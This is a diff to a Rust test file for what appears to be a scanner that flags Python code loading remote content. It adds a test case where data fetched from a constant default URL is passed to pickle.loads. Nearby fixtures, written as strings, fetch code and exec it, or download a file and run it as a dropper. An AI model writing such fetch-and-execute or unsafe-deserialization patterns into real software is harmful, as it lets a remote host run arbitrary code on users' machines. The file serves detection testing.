@@ -289,6 +289,9 @@ fn a_url_the_caller_passes_is_a_flow_only_where_a_constant_is_passed() {
     // A host written in the code is the package's own choice, parameter or not.
     let own_host = py("import requests\ndef update(name):\n    code = requests.get('https://x.example.invalid/' + name).text\n    exec(code)\n");
     assert_eq!(own_host.len(), 1, "{own_host:?}");
+    // A constant default is a URL written in the code.
+    let defaulted = py("import pickle, urllib.request\ndef refresh(url: str = 'https://x.example.invalid/state'):\n    payload = urllib.request.urlopen(url).read()\n    return pickle.loads(payload)\n");
+    assert_eq!(defaulted.len(), 1, "{defaulted:?}");
     // Saved to a file and started as a program: a dropper, whoever passes the URL.
     let dropper = py("import subprocess, requests\ndef main(url, filename):\n    response = requests.get(url)\n    with open(filename, 'wb') as f:\n        f.write(response.content)\n    subprocess.run(['pythonw', filename])\n");
     assert_eq!(dropper.len(), 1, "{dropper:?}");
